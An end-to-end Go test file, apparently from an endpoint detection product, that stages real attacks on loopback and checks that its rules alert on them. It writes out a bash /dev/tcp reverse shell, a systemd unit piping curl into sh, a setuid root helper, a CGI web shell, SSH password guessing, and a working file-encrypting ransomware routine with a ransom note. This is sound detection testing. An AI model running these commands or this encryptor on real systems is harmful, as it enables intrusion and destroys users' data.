//go:build e2e

package e2e

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/vigilsec/vigil/internal/event"
)

// Rules of the shipped pack the attacks must raise (rules/linux).
const (
	ruleReverseShellDevTCP = "4cae566c-4121-439f-bea6-b8c586baa5c4"
	ruleSetuidChmod        = "8474e7f9-809a-4e07-ae9f-bbede2d1aae1"
	ruleSetuidRoot         = "4c676a34-5f57-48c4-a357-f9dd970c4074"
	ruleMiner              = "a46ada30-9041-415c-9842-96c385ed5fe7"
	ruleWebshellChild      = "3110b6db-05fd-424f-b5a5-541247547866"
	rulePasswordGuessing   = "218f6ba4-254a-4707-81b9-363fd4db9a7d"
	ruleCronSuspicious     = "2002acc7-afeb-454f-a155-78ea9c53c81a"
	ruleSystemdSuspicious  = "a5aa23ce-b959-4fb9-95e0-083b7109645f"
	ruleWebPageTampered    = "b6b368d7-8d55-4b4a-9cf2-0f36526b59d9"
	ruleAgentDataTampered  = "da4e06fb-7242-4387-bb72-3453859a709d"
	ruleInterfaceAdded     = "72dfa67e-10f3-4900-9f6e-34887d965c5e"
	rulePivotSetUp         = "a778199b-999d-47b7-817d-e086d064c0ca"
	rulePromiscuous        = "939ce92d-f18f-4417-ac79-640d848916d6"
	ruleLoginNewNetwork    = "8f6e98bf-5526-422b-945e-aa93d7d08927"
	ruleLoginFromIntel     = "6ac30e61-b7b2-4b74-920f-9a8797d609d6"
	ruleRansomware         = "fbd44bc0-5f0e-46fb-96ac-3adf1d007040"
	ruleRansomNote         = "84db8f60-e0ea-4888-8deb-b6ec188e5482"
	ruleHistoryOff         = "e71b2549-f554-43de-9871-e10f41fbd3df"
	ruleShellOnSocket      = "b07e0437-4399-4802-9402-6cb0cb8c7d39"
)

// roleEnv makes the e2e test binary play a program of an attack (see
// TestMain): the miner, the encryptor.
const roleEnv = "VIGIL_E2E_ROLE"

func TestMain(m *testing.M) {
	switch os.Getenv(roleEnv) {
	case "miner":
		os.Exit(runMiner(os.Args[1:]))
	case "encryptor":
		os.Exit(runEncryptor(os.Args[1:]))
	}
	os.Exit(m.Run())
}

// attackAlert is an alert as the API lists it.
type attackAlert struct {
	ID         string   `json:"id"`
	AgentID    string   `json:"agent_id"`
	RuleID     string   `json:"rule_id"`
	Title      string   `json:"title"`
	Severity   string   `json:"severity"`
	Techniques []string `json:"techniques"`
	Count      int      `json:"count"`
	IncidentID string   `json:"incident_id"`
}

func (c *center) attackAlerts(agentID string) []attackAlert {
	c.t.Helper()
	var out struct{ Items []attackAlert }
	c.api("GET", "/alerts?limit=1000&agent_id="+url.QueryEscape(agentID), nil, &out)
	return out.Items
}

// lab is a center and one agent on this host, with the sensors the
// attacks need: processes, connections, fim on a data folder, and the
// authentication log the test's sshd writes to.
type lab struct {
	t       *testing.T
	c       *center
	agent   *process
	id      string
	dir     string
	data    string // watched by fim
	authLog string
	htdocs  string          // a web site's document root, watched by fim
	seen    map[string]bool // alerts present before a scenario
}

func newLab(t *testing.T) *lab {
	t.Helper()
	if os.Geteuid() != 0 {
		if os.Getenv("VIGIL_REQUIRE_KERNEL") == "1" {
			t.Fatal("the attacks need root")
		}
		t.Skip("the attacks need root")
	}
	dir := t.TempDir()
	// Readable by the unprivileged programs of the scenarios.
	for _, d := range []string{filepath.Dir(dir), dir} {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	l := &lab{t: t, dir: dir, data: filepath.Join(dir, "data"), authLog: filepath.Join(dir, "auth.log"), seen: map[string]bool{}}
	if err := os.MkdirAll(filepath.Join(l.data, "documents"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(l.authLog, nil, 0o640); err != nil {
		t.Fatal(err)
	}
	// A site's document root, in place before the fim baseline: under
	// /srv, as the rule leaves out temporary folders such as /tmp.
	if err := os.MkdirAll("/srv", 0o755); err != nil {
		t.Fatal(err)
	}
	site, err := os.MkdirTemp("/srv", "vigil-e2e-site-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(site) })
	l.htdocs = filepath.Join(site, "htdocs")
	if err := os.MkdirAll(l.htdocs, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(l.htdocs, "index.html"), []byte("<h1>welcome</h1>\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The user's documents the encryptor will take, in place before the
	// fim baseline.
	for i := range 150 {
		body := fmt.Sprintf("quarterly report %d\n%s\n", i, strings.Repeat("figures ", 200))
		if err := os.WriteFile(filepath.Join(l.data, "documents", fmt.Sprintf("report-%03d.txt", i)), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Logins are judged after three, at once: the anomalous-login scenario.
	l.c = startCenter(t, filepath.Join(dir, "center"), "VIGIL_LOGIN_LEARNING=1s", "VIGIL_LOGIN_MIN_LOGINS=3")
	settings := func(v any) string { b, _ := json.Marshal(v); return string(b) }
	spec := map[string]any{"sensors": map[string]any{
		"exec/ebpf": map[string]any{"enabled": true},
		"net/ebpf":  map[string]any{"enabled": true},
		"persist":   map[string]any{"enabled": true},
		"netcfg":    map[string]any{"enabled": true},
		"fim":       map[string]any{"enabled": true, "settingsJson": settings(map[string]any{"paths": []string{l.data, l.htdocs}})},
		"authlog": map[string]any{"enabled": true, "settingsJson": settings(map[string]any{
			"source": "file", "files": []string{l.authLog}, "start_at": "beginning", "wtmp": "", "btmp": "",
		})},
	}}
	if code := l.c.api("PUT", "/agent-policies/attacks", map[string]any{
		"selector": map[string]string{"e2e": "attacks"}, "priority": 10, "spec": spec,
	}, nil); code != 200 {
		t.Fatalf("put policy: %d", code)
	}
	token := l.c.joinToken("--ttl", "1h", "--labels", "e2e=attacks")
	l.agent = l.c.startAgent(t, filepath.Join(dir, "agent"), token)
	t.Cleanup(func() {
		if t.Failed() {
			var titles []string
			for _, a := range l.c.attackAlerts(l.id) {
				titles = append(titles, fmt.Sprintf("%s %s (%s) x%d", a.Severity, a.Title, a.RuleID, a.Count))
			}
			// What fim reported, by action and whether the process is
			// known: the file scenarios count on it.
			files := map[string]int{}
			var others []string
			for _, e := range l.c.events(l.id, "category=file&limit=1000") {
				_, known := e.Get("process.entity_id")
				files[fmt.Sprintf("%s/%s process=%t", e.String("event.dataset"), e.String("event.action"), known)]++
				if p := e.String("file.path"); !strings.Contains(p, "/documents/") {
					others = append(others, fmt.Sprintf("%s %s by %q", e.String("event.action"), p, e.String("process.name")))
				}
			}
			files["others: "+strings.Join(others, "; ")] = len(others)
			t.Logf("alerts of the agent:\n  %s\nfile events (latest 1000): %v\nagent log:\n%s\ncenter log:\n%s",
				strings.Join(titles, "\n  "), files, tail(l.agent.log), tail(l.c.proc.log))
		}
	})
	waitFor(t, 30*time.Second, "agent online", func() bool {
		for _, a := range l.c.agents() {
			if a.Status == "online" {
				l.id = a.ID
			}
		}
		return l.id != ""
	})
	waitFor(t, 90*time.Second, "fim baseline of the data folder", func() bool {
		for _, e := range l.c.events(l.id, "action=fim-baseline-completed") {
			if v, ok := e.Get("vigil.fim.paths"); ok && slices.Contains(stringList(v), l.data) {
				return true
			}
		}
		return false
	})
	return l
}

// expect waits for a new alert of rule on the lab's agent carrying
// technique, and returns it.
func (l *lab) expect(rule, technique string, timeout time.Duration) attackAlert {
	l.t.Helper()
	var got attackAlert
	waitFor(l.t, timeout, "alert of rule "+rule, func() bool {
		for _, a := range l.c.attackAlerts(l.id) {
			if a.RuleID == rule && !l.seen[a.ID] {
				got = a
				return true
			}
		}
		return false
	})
	l.seen[got.ID] = true
	if !slices.ContainsFunc(got.Techniques, func(t string) bool { return t == technique || strings.HasPrefix(t, technique+".") }) {
		l.t.Errorf("alert %q has techniques %v, want %s", got.Title, got.Techniques, technique)
	}
	l.t.Logf("raised: %s %q %v", got.Severity, got.Title, got.Techniques)
	return got
}

// run runs a command of a scenario and returns its output.
func run(t *testing.T, timeout time.Duration, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	out, err := exec.CommandContext(ctx, name, args...).CombinedOutput()
	if err != nil {
		t.Logf("%s %v: %v\n%s", name, args, err, out)
	}
	return string(out)
}

// TestAttacks reproduces each class of attack for real on this host, on
// loopback, with the built agent and center, and checks that the shipped
// rules raise the expected alert with its ATT&CK technique.
func TestAttacks(t *testing.T) {
	l := newLab(t)

	t.Run("reverse shell over /dev/tcp", func(t *testing.T) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		got := make(chan string, 1)
		go func() {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
			fmt.Fprintln(conn, "id -u; exit")
			b, _ := io.ReadAll(conn)
			got <- string(b)
		}()
		port := ln.Addr().(*net.TCPAddr).Port
		run(t, 15*time.Second, "bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
		select {
		case out := <-got:
			if !strings.Contains(out, "0") {
				t.Errorf("the listener got %q from the shell", out)
			}
		case <-time.After(10 * time.Second):
			t.Fatal("the shell never reached the listener")
		}
		l.expect(ruleReverseShellDevTCP, "T1059", 60*time.Second)
		l.expect(ruleShellOnSocket, "T1059", 60*time.Second)
	})

	t.Run("crafted setuid binary", func(t *testing.T) {
		sdir := setuidDir(t, l.dir)
		helper := filepath.Join(sdir, "helper")
		data, err := os.ReadFile("/usr/bin/env")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(helper, data, 0o755); err != nil {
			t.Fatal(err)
		}
		run(t, 10*time.Second, "chmod", "u+s", helper)
		out := run(t, 10*time.Second, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", helper, "/usr/bin/id", "-u")
		if strings.TrimSpace(out) != "0" {
			t.Fatalf("the setuid helper did not give root: %q", out)
		}
		l.expect(ruleSetuidChmod, "T1548", 60*time.Second)
		l.expect(ruleSetuidRoot, "T1548", 60*time.Second)
	})

	t.Run("crypto-miner with a stratum handshake", func(t *testing.T) {
		pool, handshakes := fakePool(t)
		mdir := filepath.Join(l.dir, "miner")
		if err := os.MkdirAll(mdir, 0o755); err != nil {
			t.Fatal(err)
		}
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		miner := filepath.Join(mdir, "xmrig")
		data, err := os.ReadFile(self)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(miner, data, 0o755); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(miner, "-o", "stratum+tcp://"+pool, "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
			"-p", "x", "--donate-level=1", "--coin", "monero")
		cmd.Env = append(os.Environ(), roleEnv+"=miner")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("miner: %v\n%s", err, out)
		}
		if n := handshakes(); n != 1 {
			t.Fatalf("the pool saw %d handshakes", n)
		}
		l.expect(ruleMiner, "T1496", 60*time.Second)
	})

	t.Run("web shell run by the web server's CGI worker", func(t *testing.T) {
		port, cgiBin := startApacheCGI(t, l.dir)
		script := filepath.Join(cgiBin, "up.cgi")
		body := "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nid\nuname -a\n"
		if err := os.WriteFile(script, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
		resp, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/cgi-bin/up.cgi", port))
		if err != nil {
			t.Fatal(err)
		}
		out, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || !strings.Contains(string(out), "uid=") {
			t.Fatalf("the web shell answered %d: %s", resp.StatusCode, out)
		}
		l.expect(ruleWebshellChild, "T1505", 60*time.Second)
	})

	t.Run("ransomware encrypts and renames the documents", func(t *testing.T) {
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(self, filepath.Join(l.data, "documents"))
		cmd.Env = append(os.Environ(), roleEnv+"=encryptor")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("encryptor: %v\n%s", err, out)
		}
		l.expect(ruleRansomware, "T1486", 90*time.Second)
		l.expect(ruleRansomNote, "T1486", 60*time.Second)
	})

	t.Run("password guessing against sshd", func(t *testing.T) {
		port := startSSHD(t, l.dir, l.authLog)
		for range 12 {
			// Each attempt is refused: that is the point.
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			_ = exec.CommandContext(ctx, "sshpass", "-p", "wrong-"+randomWord(), "ssh",
				"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
				"-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=error",
				"-p", strconv.Itoa(port), "root@127.0.0.1", "true").Run()
			cancel()
		}
		l.expect(rulePasswordGuessing, "T1110", 90*time.Second)
	})
	t.Run("persistence: a cron job and a systemd unit fetching a script", func(t *testing.T) {
		name := "vigil-e2e-" + randomWord()
		// Never run: cron finds no such file, and the unit is neither
		// enabled nor started. Both are removed at the end.
		cron := filepath.Join("/etc/cron.d", name)
		unit := filepath.Join("/etc/systemd/system", name+".service")
		t.Cleanup(func() { _ = os.Remove(cron); _ = os.Remove(unit) })
		if err := os.WriteFile(cron, []byte("*/30 * * * * root /tmp/.cache-"+name+"/update.sh\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		l.expect(ruleCronSuspicious, "T1053", 60*time.Second)
		body := "[Unit]\nDescription=update helper\n[Service]\nExecStart=/bin/sh -c 'curl -fsS http://127.0.0.1:9/u.sh | sh'\n[Install]\nWantedBy=multi-user.target\n"
		if err := os.WriteFile(unit, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		l.expect(ruleSystemdSuspicious, "T1543", 60*time.Second)
	})
	t.Run("web page tampered", func(t *testing.T) {
		page := filepath.Join(l.htdocs, "index.html")
		run(t, 10*time.Second, "sh", "-c", "echo '<h1>hacked by e2e</h1>' > "+page)
		l.expect(ruleWebPageTampered, "T1491", 60*time.Second)
	})
	t.Run("agent data tampered", func(t *testing.T) {
		run(t, 10*time.Second, "sh", "-c", "echo x > "+filepath.Join(l.dir, "agent", "tampered-by-e2e"))
		l.expect(ruleAgentDataTampered, "T1562", 60*time.Second)
	})
	t.Run("new interface with an address and a route, promiscuous mode", func(t *testing.T) {
		// A veth pair whose peer is in a network namespace of the test:
		// the host side gets an address and a route of a documentation
		// network and is put in promiscuous mode. No packet is sent.
		ns := "vigil-e2e-" + randomWord()
		link := "vge" + randomWord()[:6]
		t.Cleanup(func() {
			_ = exec.Command("ip", "link", "del", link).Run()
			_ = exec.Command("ip", "netns", "del", ns).Run()
		})
		for _, args := range [][]string{
			{"netns", "add", ns},
			{"link", "add", link, "type", "veth", "peer", "name", "vgp" + link[3:], "netns", ns},
			{"addr", "add", "198.51.100.77/32", "dev", link},
			{"link", "set", link, "up"},
			{"route", "add", "198.51.100.128/25", "dev", link},
			{"link", "set", link, "promisc", "on"},
		} {
			if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
				t.Fatalf("ip %v: %v\n%s", args, err, out)
			}
		}
		l.expect(ruleInterfaceAdded, "T1090", 60*time.Second)
		l.expect(rulePivotSetUp, "T1090", 60*time.Second)
		l.expect(rulePromiscuous, "T1040", 60*time.Second)
	})
	t.Run("anomalous logins: a new network, an address in threat intelligence", func(t *testing.T) {
		base := t.TempDir() // an sshd of its own, beside the password guessing's
		port := startSSHD(t, base, l.authLog)
		key := sshClientKey(t, base)
		login := func(from string) {
			t.Helper()
			out := run(t, 30*time.Second, "ssh", "-i", key, "-b", from, "-o", "IdentitiesOnly=yes",
				"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PasswordAuthentication=no",
				"-o", "LogLevel=error", "-p", strconv.Itoa(port), "root@127.0.0.1", "echo logged-in")
			if !strings.Contains(out, "logged-in") {
				t.Fatalf("ssh login from %s failed: %s", from, out)
			}
		}
		// The center learns three logins (VIGIL_LOGIN_MIN_LOGINS) from
		// 127.0.0.1, and then judges.
		for range 3 {
			login("127.0.0.1")
		}
		waitFor(t, 60*time.Second, "the login profile of root learned", func() bool {
			var out struct {
				Items []struct {
					Status string `json:"status"`
					Logins int    `json:"logins"`
				} `json:"items"`
			}
			l.c.api("GET", "/baselines/logins?user=root&agent_id="+url.QueryEscape(l.id), nil, &out)
			return len(out.Items) == 1 && out.Items[0].Status == "learned" && out.Items[0].Logins >= 3
		})
		login("127.1.2.3")
		l.expect(ruleLoginNewNetwork, "T1078", 60*time.Second)

		if code := l.c.api("POST", "/intel", map[string]any{"source": "e2e-feed", "indicators": []map[string]any{
			{"value": "127.9.9.9", "severity": "high", "description": "known attacker (test)"},
		}}, nil); code != 200 {
			t.Fatalf("add an indicator: %d", code)
		}
		login("127.9.9.9")
		a := l.expect(ruleLoginFromIntel, "T1078", 60*time.Second)
		var full struct {
			Evidence struct {
				Event map[string]any `json:"event"`
			} `json:"evidence"`
		}
		l.c.api("GET", "/alerts/"+a.ID, nil, &full)
		enrichments, _ := event.Event(full.Evidence.Event).Get("threat.enrichments")
		if !strings.Contains(fmt.Sprint(enrichments), "e2e-feed") {
			t.Errorf("the alert's event names no intelligence match of the feed: %v", enrichments)
		}
	})
}

// sshClientKey makes a client key pair and authorizes it for the sshd of
// startSSHD (its AuthorizedKeysFile) under base; it returns the private
// key's path.
func sshClientKey(t *testing.T, base string) string {
	t.Helper()
	key := filepath.Join(base, "sshd", "client_ed25519")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v\n%s", err, out)
	}
	pub, err := os.ReadFile(key + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(base, "sshd", "authorized_keys"), pub, 0o600); err != nil {
		t.Fatal(err)
	}
	return key
}

// setuidDir returns a folder under base where set-user-id bits work (not
// on a nosuid file system), removed when the test ends.
func setuidDir(t *testing.T, base string) string {
	t.Helper()
	for _, root := range []string{base, "/var/tmp", "/root"} {
		var st unix.Statfs_t
		if err := unix.Statfs(root, &st); err != nil || st.Flags&unix.ST_NOSUID != 0 {
			continue
		}
		d, err := os.MkdirTemp(root, "vigil-e2e-suid-")
		if err != nil {
			continue
		}
		t.Cleanup(func() { _ = os.RemoveAll(d) })
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
		return d
	}
	t.Fatal("no file system here honours set-user-id bits")
	return ""
}

// fakePool is a mining pool on loopback speaking stratum: it answers
// mining.subscribe and mining.authorize. It returns its address and the
// count of completed handshakes.
func fakePool(t *testing.T) (string, func() int) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:3333")
	if err != nil {
		ln, err = net.Listen("tcp", "127.0.0.1:0")
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ln.Close() })
	var mu sync.Mutex
	n := 0
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
				r := bufio.NewReader(conn)
				for {
					line, err := r.ReadString('\n')
					if err != nil {
						return
					}
					var req struct {
						ID     int    `json:"id"`
						Method string `json:"method"`
					}
					if json.Unmarshal([]byte(line), &req) != nil {
						return
					}
					switch req.Method {
					case "mining.subscribe":
						fmt.Fprintf(conn, `{"id":%d,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}`+"\n", req.ID)
					case "mining.authorize":
						// Counted before the answer: the miner exits on it.
						mu.Lock()
						n++
						mu.Unlock()
						fmt.Fprintf(conn, `{"id":%d,"result":true,"error":null}`+"\n", req.ID)
						return
					}
				}
			}()
		}
	}()
	return ln.Addr().String(), func() int { mu.Lock(); defer mu.Unlock(); return n }
}

// runMiner is the miner's side of a stratum handshake: subscribe, then
// authorize with the wallet, against the pool of -o.
func runMiner(args []string) int {
	var pool, user string
	for i := 0; i+1 < len(args); i++ {
		switch args[i] {
		case "-o":
			pool = strings.TrimPrefix(args[i+1], "stratum+tcp://")
		case "-u":
			user = args[i+1]
		}
	}
	conn, err := net.DialTimeout("tcp", pool, 5*time.Second)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	r := bufio.NewReader(conn)
	for i, req := range []string{
		`{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}`,
		fmt.Sprintf(`{"id":2,"method":"mining.authorize","params":[%q,"x"]}`, user),
	} {
		fmt.Fprintln(conn, req)
		line, err := r.ReadString('\n')
		if err != nil || !strings.Contains(line, fmt.Sprintf(`"id":%d`, i+1)) {
			fmt.Fprintln(os.Stderr, "pool answered", line, err)
			return 1
		}
	}
	return 0
}

// runEncryptor is the ransomware: it rewrites every file of a folder
// encrypted under a new name, removes the original, and leaves a note.
func runEncryptor(args []string) int {
	if len(args) != 1 {
		return 2
	}
	dir := args[0]
	entries, err := os.ReadDir(dir)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	key := make([]byte, 32)
	_, _ = rand.Read(key)
	for _, e := range entries {
		p := filepath.Join(dir, e.Name())
		data, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		for i := range data {
			data[i] ^= key[i%len(key)]
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			return 1
		}
		if err := os.Rename(p, p+".locked"); err != nil {
			return 1
		}
	}
	note := "Your files are encrypted. To decrypt them, pay 0.5 BTC.\n"
	if err := os.WriteFile(filepath.Join(dir, "README_DECRYPT.txt"), []byte(note), 0o644); err != nil {
		return 1
	}
	return 0
}

// startApacheCGI runs a private Apache httpd on a loopback port, with
// mod_cgi and a cgi-bin folder under base, its workers as www-data. It
// returns the port and the folder.
func startApacheCGI(t *testing.T, base string) (int, string) {
	t.Helper()
	const httpd = "/usr/sbin/apache2"
	if _, err := os.Stat(httpd); err != nil {
		if os.Getenv("VIGIL_REQUIRE_MIDDLEWARE") == "1" {
			t.Fatalf("apache2 is not installed: %v", err)
		}
		t.Skip("apache2 is not installed")
	}
	dir := filepath.Join(base, "httpd")
	cgiBin := filepath.Join(dir, "cgi-bin")
	for _, d := range []string{dir, cgiBin, filepath.Join(dir, "www"), filepath.Join(dir, "run")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	port := freePort(t)
	mods := "/usr/lib/apache2/modules"
	conf := fmt.Sprintf(`ServerRoot %[1]s
ServerName 127.0.0.1
LoadModule mpm_prefork_module %[2]s/mod_mpm_prefork.so
LoadModule authz_core_module %[2]s/mod_authz_core.so
LoadModule alias_module %[2]s/mod_alias.so
LoadModule cgi_module %[2]s/mod_cgi.so
Listen 127.0.0.1:%[3]d
PidFile %[1]s/run/httpd.pid
DefaultRuntimeDir %[1]s/run
Mutex file:%[1]s/run default
ErrorLog %[1]s/error.log
User www-data
Group www-data
DocumentRoot %[1]s/www
ScriptAlias /cgi-bin/ %[1]s/cgi-bin/
<Directory %[1]s/cgi-bin>
	Options +ExecCGI
	Require all granted
</Directory>
`, dir, mods, port)
	confPath := filepath.Join(dir, "httpd.conf")
	if err := os.WriteFile(confPath, []byte(conf), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(httpd, "-f", confPath, "-k", "start").CombinedOutput(); err != nil {
		t.Fatalf("apache2: %v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command(httpd, "-f", confPath, "-k", "stop").Run() })
	waitFor(t, 15*time.Second, "apache2 listening", func() bool {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		if err == nil {
			c.Close()
		}
		return err == nil
	})
	return port, cgiBin
}

// startSSHD runs the real sshd on a loopback port with a private
// configuration (password authentication on, no PAM), and relays its log
// to logPath as a syslog daemon writes the authentication log.
func startSSHD(t *testing.T, base, logPath string) int {
	t.Helper()
	for _, tool := range []string{"/usr/sbin/sshd", "sshpass", "ssh", "ssh-keygen"} {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("VIGIL_REQUIRE_KERNEL") == "1" {
				t.Fatalf("%s is not installed", tool)
			}
			t.Skipf("%s is not installed", tool)
		}
	}
	dir := filepath.Join(base, "sshd")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll("/run/sshd", 0o755); err != nil {
		t.Fatal(err)
	}
	key := filepath.Join(dir, "host_ed25519")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v\n%s", err, out)
	}
	port := freePort(t)
	conf := fmt.Sprintf("Port %d\nListenAddress 127.0.0.1\nHostKey %s\nPidFile %s/sshd.pid\nUsePAM no\nPasswordAuthentication yes\nPermitRootLogin yes\nMaxAuthTries 2\n"+
		"AuthorizedKeysFile %s/authorized_keys\nStrictModes no\n", port, key, dir, dir)
	confPath := filepath.Join(dir, "sshd_config")
	if err := os.WriteFile(confPath, []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("/usr/sbin/sshd", "-D", "-e", "-f", confPath)
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	out, err := os.OpenFile(logPath, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	host, _ := os.Hostname()
	listening := make(chan struct{})
	go func() {
		defer out.Close()
		sc := bufio.NewScanner(stderr)
		once := sync.Once{}
		for sc.Scan() {
			line := sc.Text()
			if strings.HasPrefix(line, "Server listening") {
				once.Do(func() { close(listening) })
			}
			fmt.Fprintf(out, "%s %s sshd[%d]: %s\n", time.Now().Format(time.Stamp), host, cmd.Process.Pid, line)
		}
	}()
	select {
	case <-listening:
	case <-time.After(15 * time.Second):
		t.Fatal("sshd is not listening")
	}
	return port
}

func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

func randomWord() string {
	b := make([]byte, 4)
	_, _ = rand.Read(b)
	return fmt.Sprintf("%x", b)
}

// TestBenignWork runs ordinary work under the agent (a build, a package
// installed and removed, web servers started, reloaded and stopped,
// everyday administration commands) and checks that it raises no high or
// critical alert.
func TestBenignWork(t *testing.T) {
	l := newLab(t)
	work := filepath.Join(l.dir, "work")
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}

	// A build.
	if goBin, err := exec.LookPath("go"); err == nil {
		mod := filepath.Join(work, "hello")
		if err := os.MkdirAll(mod, 0o755); err != nil {
			t.Fatal(err)
		}
		_ = os.WriteFile(filepath.Join(mod, "go.mod"), []byte("module hello\n\ngo 1.22\n"), 0o644)
		_ = os.WriteFile(filepath.Join(mod, "main.go"), []byte("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n"), 0o644)
		cmd := exec.Command(goBin, "build", "-o", "hello", ".")
		cmd.Dir = mod
		cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOCACHE="+filepath.Join(work, "gocache"))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("go build: %v\n%s", err, out)
		}
		if out := run(t, 10*time.Second, filepath.Join(mod, "hello")); !strings.Contains(out, "hello") {
			t.Errorf("the program built says %q", out)
		}
	}

	// A package installed and removed with dpkg.
	if _, err := exec.LookPath("dpkg-deb"); err == nil {
		pkg := filepath.Join(work, "pkg")
		for _, d := range []string{"DEBIAN", "usr/share/vigil-e2e-benign"} {
			if err := os.MkdirAll(filepath.Join(pkg, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		control := "Package: vigil-e2e-benign\nVersion: 1.0\nArchitecture: all\nMaintainer: Vigil <vigil@example.com>\nDescription: a package the benign work test installs\n"
		_ = os.WriteFile(filepath.Join(pkg, "DEBIAN", "control"), []byte(control), 0o644)
		_ = os.WriteFile(filepath.Join(pkg, "usr/share/vigil-e2e-benign/README"), []byte("benign\n"), 0o644)
		deb := filepath.Join(work, "vigil-e2e-benign.deb")
		run(t, time.Minute, "dpkg-deb", "--build", "--root-owner-group", pkg, deb)
		t.Cleanup(func() { _ = exec.Command("dpkg", "--purge", "vigil-e2e-benign").Run() })
		if out := run(t, 2*time.Minute, "dpkg", "-i", deb); !strings.Contains(out, "Setting up vigil-e2e-benign") {
			t.Fatalf("dpkg -i: %s", out)
		}
		run(t, 2*time.Minute, "dpkg", "--purge", "vigil-e2e-benign")
	}

	// Web servers started, reloaded and stopped.
	if _, err := os.Stat("/usr/sbin/apache2"); err == nil {
		_, _ = startApacheCGI(t, work)
		conf := filepath.Join(work, "httpd", "httpd.conf")
		run(t, 30*time.Second, "/usr/sbin/apache2", "-f", conf, "-k", "graceful")
		time.Sleep(time.Second)
		run(t, 30*time.Second, "/usr/sbin/apache2", "-f", conf, "-k", "stop")
	}
	if _, err := os.Stat("/usr/sbin/nginx"); err == nil {
